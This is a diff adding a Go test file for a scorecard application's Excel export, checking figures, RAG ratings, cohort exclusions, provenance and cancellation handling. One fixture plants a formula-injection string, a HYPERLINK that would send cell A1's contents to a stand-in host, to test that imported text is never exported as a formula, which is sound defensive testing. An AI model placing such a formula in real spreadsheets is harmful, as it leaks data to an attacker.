@@ -1,0 +1,430 @@
+package export
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"errors"
+	"math"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"scorecard/app"
+	"scorecard/app/cohort"
+	"scorecard/app/trend"
+	"scorecard/assets"
+	"scorecard/assets/synth"
+)
+
+// produced fixes the "date produced" so exports are reproducible.
+var produced = time.Date(2026, time.November, 24, 9, 0, 0, 0, time.UTC)
+
+// The hostile text planted in the demo history: a commentary that Excel
+// would run as a formula, and an indicator name that would be a negative
+// number's formula.
+const (
+	hostileComment = `=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")`
+	hostileName    = "-1 children"
+)
+
+// demoHistory is the embedded demo as the store would hold it after
+// `scorecard demo`: the model's dataset with its previous-year outturns,
+// one import with the demo workbook's SHA-256, and the hostile text.
+func demoHistory(t testing.TB) (*app.History, *synth.Model) {
+	t.Helper()
+	m := synth.Demo()
+	d := m.Dataset
+	d.Indicators = slices.Clone(d.Indicators)
+	d.Comments = slices.Clone(d.Comments)
+	for _, o := range m.Outturns {
+		d.Benchmarks = append(d.Benchmarks, app.Benchmark{Ref: o.Ref, Period: o.Period, Group: OutturnGroup, Value: o.Value, Status: o.Status})
+	}
+	d.Indicators[1].Name = hostileName
+	d.Comments = append(d.Comments, app.Comment{Ref: d.Indicators[0].Ref, Area: app.Kent, Period: m.Latest(), Text: hostileComment})
+	h := app.NewHistory()
+	h.Apply(&d, "I0001")
+	sum := sha256.Sum256(assets.Demo)
+	h.Imports = []app.Import{{ID: "I0001", Source: "demo.xlsx", Kind: "demo", SHA256: hex.EncodeToString(sum[:]),
+		Time: time.Date(2026, time.November, 20, 8, 30, 0, 0, time.UTC)}}
+	return h, m
+}
+
+// export writes h with opt into a temporary folder and opens the result.
+func export(t testing.TB, h *app.History, opt Options) (*excelize.File, Summary) {
+	t.Helper()
+	opt.Produced, opt.AppVersion = produced, "1.0-test"
+	path := filepath.Join(t.TempDir(), "out.xlsx")
+	sum, err := Write(context.Background(), path, h, opt)
+	if err != nil {
+		t.Fatalf("Write: %v", err)
+	}
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		t.Fatalf("open export: %v", err)
+	}
+	t.Cleanup(func() { f.Close() })
+	return f, sum
+}
+
+// sheetRow finds the row of the Scorecard whose column A holds ref.
+func sheetRow(t testing.TB, f *excelize.File, sheet, ref string) int {
+	t.Helper()
+	rows, err := f.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range rows {
+		if len(r) > 0 && r[0] == ref {
+			return i + 1
+		}
+	}
+	t.Fatalf("%s: no row for %s", sheet, ref)
+	return 0
+}
+
+// headerCol finds a column of the Scorecard's header row by its heading.
+func headerCol(t testing.TB, f *excelize.File, name string) int {
+	t.Helper()
+	rows, _ := f.GetRows(ScorecardSheet)
+	for i, h := range rows[headerRow-1] {
+		if h == name {
+			return i + 1
+		}
+	}
+	t.Fatalf("no %q column in %q", name, rows[headerRow-1])
+	return 0
+}
+
+// number reads a cell that must hold a number, not text.
+func numberAt(t testing.TB, f *excelize.File, sheet, ref string) float64 {
+	t.Helper()
+	typ, err := f.GetCellType(sheet, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
+	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
+		t.Fatalf("%s!%s holds %q as type %v, not a number", sheet, ref, raw, typ)
+	}
+	v, err := strconv.ParseFloat(raw, 64)
+	if err != nil {
+		t.Fatalf("%s!%s holds %q, not a number", sheet, ref, raw)
+	}
+	return v
+}
+
+// format returns a cell's number format and fill colour.
+func format(t testing.TB, f *excelize.File, sheet, ref string) (string, string) {
+	t.Helper()
+	id, err := f.GetCellStyle(sheet, ref)
+	if err != nil {
+		t.Fatal(err)
+	}
+	st, err := f.GetStyle(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	numFmt, fill := "", ""
+	if st.CustomNumFmt != nil {
+		numFmt = *st.CustomNumFmt
+	}
+	if len(st.Fill.Color) > 0 {
+		fill = strings.TrimPrefix(strings.ToUpper(st.Fill.Color[0]), "FF")
+		if len(st.Fill.Color[0]) == 6 {
+			fill = strings.ToUpper(st.Fill.Color[0])
+		}
+	}
+	return numFmt, fill
+}
+
+func TestScorecardFiguresAreNumbersAsAnalysed(t *testing.T) {
+	h, m := demoHistory(t)
+	f, sum := export(t, h, Options{})
+	if want := []string{ScorecardSheet, TrendSheet, DistrictsSheet, BreakdownsSheet, GuidanceSheet, ProvenanceSheet, DataSheet}; !slices.Equal(f.GetSheetList(), want) || !slices.Equal(sum.Sheets, want) {
+		t.Fatalf("sheets %q, summary %q; want %q", f.GetSheetList(), sum.Sheets, want)
+	}
+	if sum.Period != m.Latest() || sum.Indicators != len(h.Indicators()) {
+		t.Errorf("summary %+v: want period %v and %d indicators", sum, m.Latest(), len(h.Indicators()))
+	}
+	title, _ := f.GetCellValue(ScorecardSheet, "A1")
+	if !strings.Contains(title, monthName(m.Latest())) || !strings.Contains(title, "Kent") {
+		t.Errorf("title %q does not name Kent and %s", title, monthName(m.Latest()))
+	}
+	if a2, _ := f.GetCellValue(ScorecardSheet, "A2"); a2 != "All children: no cohorts excluded" {
+		t.Errorf("A2 = %q", a2)
+	}
+	monthCol := headerCol(t, f, m.Latest().Label())
+	ragCol, dotCol := headerCol(t, f, "RAG"), headerCol(t, f, "DoT")
+	checked, rated := 0, 0
+	for _, ind := range h.Indicators() {
+		pts := trend.Analyse(h, app.SeriesKey{Ref: ind.Ref, Area: app.Kent}, trend.Options{Until: m.Latest()})
+		if len(pts) == 0 || pts[len(pts)-1].Period != m.Latest() {
+			continue
+		}
+		p := pts[len(pts)-1]
+		r := sheetRow(t, f, ScorecardSheet, ind.Ref)
+		ref := cell(monthCol, r)
+		if p.Value == nil {
+			got, _ := f.GetCellValue(ScorecardSheet, ref)
+			if got != string(p.Status) {
+				t.Errorf("%s %s: %q, want status %q", ind.Ref, ref, got, p.Status)
+			}
+			continue
+		}
+		got := numberAt(t, f, ScorecardSheet, ref)
+		want := cellNumber(ind, *p.Value)
+		if math.Abs(got-want) > 1e-9 {
+			t.Errorf("%s %s = %v, want %v", ind.Ref, ref, got, want)
+		}
+		nf, _ := format(t, f, ScorecardSheet, ref)
+		if ind.Unit == app.Percent && ind.Decimals == 1 && nf != "0.0%" {
+			t.Errorf("%s %s: format %q, want 0.0%%", ind.Ref, ref, nf)
+		}
+		checked++
+		rag, _ := f.GetCellValue(ScorecardSheet, cell(ragCol, r))
+		if rag != string(p.RAG) {
+			t.Errorf("%s RAG %q, want %q", ind.Ref, rag, p.RAG)
+		}
+		if p.RAG != app.NoRAG {
+			rated++
+			wantFill, _ := ragLook(p.RAG)
+			if _, fill := format(t, f, ScorecardSheet, cell(ragCol, r)); fill != wantFill {
+				t.Errorf("%s RAG fill %q, want %q", ind.Ref, fill, wantFill)
+			}
+		}
+		dot, _ := f.GetCellValue(ScorecardSheet, cell(dotCol, r))
+		if p.DoT != app.NoDoT && !strings.HasSuffix(dot, string(p.DoT)) {
+			t.Errorf("%s DoT %q, want %q", ind.Ref, dot, p.DoT)
+		}
+	}
+	if checked < 20 || rated < 10 {
+		t.Errorf("checked %d figures and %d ratings: the demo has more", checked, rated)
+	}
+}
+
+func TestExclusionsTitleAndFigures(t *testing.T) {
+	h, m := demoHistory(t)
+	f, sum := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
+	if a2, _ := f.GetCellValue(ScorecardSheet, "A2"); a2 != "Excluding unaccompanied asylum-seeking children (UASC)" {
+		t.Errorf("A2 = %q", a2)
+	}
+	ex, _ := cohort.Exclude(h, []app.Cohort{app.UASC})
+	monthCol := headerCol(t, f, m.Latest().Label())
+	differ, cannot := 0, 0
+	for _, ind := range h.Indicators() {
+		k := app.SeriesKey{Ref: ind.Ref, Area: app.Kent}
+		o, ok := ex.Observation(k, m.Latest())
+		if !ok {
+			continue
+		}
+		ref := cell(monthCol, sheetRow(t, f, ScorecardSheet, ind.Ref))
+		if o.Status == app.CannotExclude {
+			cannot++
+			got, _ := f.GetCellValue(ScorecardSheet, ref)
+			if got != "cannot exclude" {
+				t.Errorf("%s %s = %q, want cannot exclude", ind.Ref, ref, got)
+			}
+			if !hasComment(f, ScorecardSheet, ref, o.Raw) {
+				t.Errorf("%s %s: no note giving the reason %q", ind.Ref, ref, o.Raw)
+			}
+			continue
+		}
+		if o.Value == nil {
+			continue
+		}
+		got := numberAt(t, f, ScorecardSheet, ref)
+		if want := cellNumber(ind, *o.Value); math.Abs(got-want) > 1e-9 {
+			t.Errorf("%s excluding UASC = %v, want %v", ind.Ref, got, want)
+		}
+		if all, _ := h.Observation(k, m.Latest()); all.Value != nil && *all.Value != *o.Value {
+			differ++
+		}
+	}
+	if differ == 0 {
+		t.Error("no figure differs from all children's: exclusion was not applied")
+	}
+	if cannot != sum.CannotExclude && sum.CannotExclude < cannot {
+		t.Errorf("summary counts %d cannot-exclude figures, the sheet has at least %d", sum.CannotExclude, cannot)
+	}
+	// The Data sheet labels the recomputed figures "Excluding UASC".
+	rows, _ := f.GetRows(DataSheet)
+	labels := map[string]int{}
+	for _, r := range rows[1:] {
+		labels[r[3]]++
+	}
+	for _, l := range []string{"All", "Excluding UASC", "UASC"} {
+		if labels[l] == 0 {
+			t.Errorf("Data sheet has no %q rows: %v", l, labels)
+		}
+	}
+}
+
+// hasComment reports whether a cell has a note containing text.
+func hasComment(f *excelize.File, sheet, ref, text string) bool {
+	cs, _ := f.GetComments(sheet)
+	for _, c := range cs {
+		if c.Cell != ref {
+			continue
+		}
+		all := c.Text
+		for _, p := range c.Paragraph {
+			all += p.Text
+		}
+		if strings.Contains(all, text) {
+			return true
+		}
+	}
+	return false
+}
+
+func TestImportedTextIsNeverAFormula(t *testing.T) {
+	h, _ := demoHistory(t)
+	f, _ := export(t, h, Options{})
+	found := map[string]bool{}
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, r := range rows {
+			for j, v := range r {
+				ref := cell(j+1, i+1)
+				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
+					t.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
+				}
+				if v == hostileComment || v == hostileName {
+					found[v] = true
+					if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
+						t.Errorf("%s!%s holds %q as type %v, not a string", sheet, ref, v, typ)
+					}
+				}
+			}
+		}
+	}
+	if !found[hostileComment] || !found[hostileName] {
+		t.Errorf("the planted comment and name were not exported as text: %v", found)
+	}
+}
+
+func TestProvenanceAndGuidance(t *testing.T) {
+	h, _ := demoHistory(t)
+	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
+	rows, _ := f.GetRows(ProvenanceSheet)
+	var text strings.Builder
+	for _, r := range rows {
+		text.WriteString(strings.Join(r, "|") + "\n")
+	}
+	for _, want := range []string{h.Imports[0].SHA256, "demo.xlsx", "2026-11-20 08:30:00", "Scorecard 1.0-test",
+		"Excluding unaccompanied asylum-seeking children (UASC)", "Produced|24 November 2026"} {
+		if !strings.Contains(text.String(), want) {
+			t.Errorf("Provenance does not say %q:\n%s", want, text.String())
+		}
+	}
+	rows, _ = f.GetRows(GuidanceSheet)
+	text.Reset()
+	for _, r := range rows {
+		text.WriteString(strings.Join(r, "|") + "\n")
+	}
+	for _, want := range []string{"Making Data Count", "GREEN when the figure meets the target", "R12M|rolling 12 months",
+		"c|suppressed to protect confidentiality", "snapshot date"} {
+		if !strings.Contains(text.String(), want) {
+			t.Errorf("Guidance does not say %q", want)
+		}
+	}
+}
+
+func TestDataSheetIsTidy(t *testing.T) {
+	h, m := demoHistory(t)
+	f, sum := export(t, h, Options{})
+	rows, _ := f.GetRows(DataSheet)
+	if !slices.Equal(rows[0], DataHeader) {
+		t.Fatalf("Data header %q, want %q", rows[0], DataHeader)
+	}
+	if sum.DataRows != len(rows)-1 {
+		t.Errorf("summary says %d data rows, the sheet has %d", sum.DataRows, len(rows)-1)
+	}
+	if want := len(m.Dataset.Observations); sum.DataRows != want {
+		t.Errorf("%d data rows, want every one of the demo's %d figures", sum.DataRows, want)
+	}
+	for i, r := range rows[1:] {
+		r = append(r, make([]string, 8-len(r))...)
+		p, err := app.ParsePeriod(r[1])
+		if err != nil {
+			t.Fatalf("row %d: %v", i+2, err)
+		}
+		k := app.SeriesKey{Ref: r[0], Area: app.Area(r[2])}
+		switch r[3] {
+		case "All":
+		case "UASC":
+			k.Split = app.Only(app.UASC)
+		case "Excluding UASC":
+			k.Split = app.Excluding(app.UASC)
+		default:
+			t.Fatalf("row %d: cohort %q", i+2, r[3])
+		}
+		o, ok := h.Observation(k, p)
+		if !ok {
+			t.Fatalf("row %d: %q is not in the history", i+2, r)
+		}
+		if o.Value == nil {
+			if r[6] != "" || r[7] != string(o.Status) {
+				t.Errorf("row %d: %q, want status %q", i+2, r, o.Status)
+			}
+			continue
+		}
+		if v, err := strconv.ParseFloat(r[6], 64); err != nil || math.Abs(v-*o.Value) > 1e-9 {
+			t.Errorf("row %d: value %q, want %v", i+2, r[6], *o.Value)
+		}
+	}
+}
+
+func TestFailedExportLeavesNothing(t *testing.T) {
+	h, _ := demoHistory(t)
+	dir := t.TempDir()
+	path := filepath.Join(dir, "scorecard.xlsx")
+	if err := os.WriteFile(path, []byte("last month's"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	calls := 0
+	_, err := Write(ctx, path, h, Options{Progress: func(done, total int) {
+		calls++
+		if done > total {
+			t.Errorf("progress %d of %d", done, total)
+		}
+		if calls == 40 {
+			cancel()
+		}
+	}})
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("cancelled export returned %v", err)
+	}
+	entries, _ := os.ReadDir(dir)
+	if len(entries) != 1 {
+		t.Errorf("folder holds %d files after a cancelled export, want only the old one", len(entries))
+	}
+	if b, _ := os.ReadFile(path); string(b) != "last month's" {
+		t.Error("a cancelled export changed the existing file")
+	}
+	if _, err := Write(context.Background(), filepath.Join(dir, "no such folder", "x.xlsx"), h, Options{}); err == nil {
+		t.Error("export into a missing folder succeeded")
+	}
+}
+
+func TestTrendSheetHasSparklinesAndCharts(t *testing.T) {
+	h, _ := demoHistory(t)
+	_, sum := export(t, h, Options{})
+	if sum.Sparklines != sum.Indicators {
+		t.Errorf("%d sparklines for %d indicators", sum.Sparklines, sum.Indicators)
+	}
+	if sum.Flagged == 0 || sum.Charts != sum.Flagged {
+		t.Errorf("%d charts for %d flagged indicators", sum.Charts, sum.Flagged)
+	}
+}
